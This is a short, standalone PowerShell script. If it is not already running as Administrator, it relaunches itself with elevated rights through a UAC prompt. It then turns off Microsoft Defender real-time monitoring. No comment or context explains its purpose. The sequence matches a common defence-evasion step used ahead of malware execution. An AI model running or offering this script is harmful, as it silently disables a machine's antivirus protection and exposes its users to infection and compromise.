if (-not ([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole('Administrator')) {
  Start-Process powershell -Verb RunAs -ArgumentList '-File', $PSCommandPath; exit
}
Set-MpPreference -DisableRealtimeMonitoring $true
